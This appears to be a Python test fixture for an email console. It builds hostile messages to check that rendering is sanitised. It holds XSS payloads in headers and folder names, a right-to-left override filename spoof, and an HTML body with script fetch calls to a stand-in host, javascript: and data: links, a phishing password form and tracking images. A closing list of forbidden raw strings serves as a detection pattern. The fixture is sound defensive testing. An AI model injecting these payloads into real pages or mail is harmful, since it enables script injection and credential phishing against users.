"""A corpus of hostile mail for the console: every way a message has tried to run script,
load something or fool the reader, in the headers, folder names and bodies."""

from __future__ import annotations

REMOTE = "remote.example"
BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "gpj.exe" shown as "exe.jpg"

HOSTILE_FOLDER = '"><script>alert("folder")</script>'
SCRIPT_SUBJECT = f"<script>alert('subject')</script> invoice {BIDI}fdp.exe"
SCRIPT_FROM = '"<img src=x onerror=alert(1)>" <evil@attacker.example>'

HTML_BODY = f"""<html><head>
<meta http-equiv="refresh" content="0; url=https://{REMOTE}/refresh">
<style>body {{ background: url(https://{REMOTE}/css.png) }}</style>
<script>document.title = 'pwned'; fetch('https://{REMOTE}/script')</script>
</head><body>
<p id="greeting">Hello from the archive</p>
<img src="https://{REMOTE}/pixel.png" onerror="alert('img')">
<a href="javascript:alert('link')">click</a>
<a href="data:text/html,<script>alert('data')</script>">data link</a>
<svg onload="alert('svg')"><circle r="5"/></svg>
<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; color: red">overlay</div>
<iframe srcdoc="&lt;script&gt;alert('srcdoc')&lt;/script&gt;"></iframe>
<form action="https://{REMOTE}/phish"><input name=password></form>
<object data="https://{REMOTE}/object.swf"></object>
</body></html>"""

TEXT_BODY = "plain text </pre><script>alert('text')</script> & more"


def mime(subject: str, sender: str, html: str | None, text: str | None) -> bytes:
    """A message with an HTML and/or a text part (UTF-8, encoded headers as needed)."""
    from email.message import EmailMessage

    message = EmailMessage()
    message["Subject"] = subject
    message["From"] = sender
    message["To"] = "owner@contoso.onmicrosoft.com"
    message["Date"] = "Mon, 01 Jun 2026 10:00:00 +0000"
    message["Message-ID"] = f"<{abs(hash((subject, html, text)))}@example.com>"
    if text is not None:
        message.set_content(text)
    if html is not None:
        if text is None:
            message.set_content(html, subtype="html")
        else:
            message.add_alternative(html, subtype="html")
    return bytes(message)


#: Strings none of which may appear in a console page or message body.
NEVER_SHOWN_RAW = (
    "<script",
    "onerror",
    "onload",
    "javascript:",
    "srcdoc=",
    "<svg",
    "<meta http-equiv",
    "<iframe srcdoc",
    "position: fixed",
    "position:fixed",
    f"https://{REMOTE}/pixel",
    f"https://{REMOTE}/css",
    "<form",
    "<object",
)
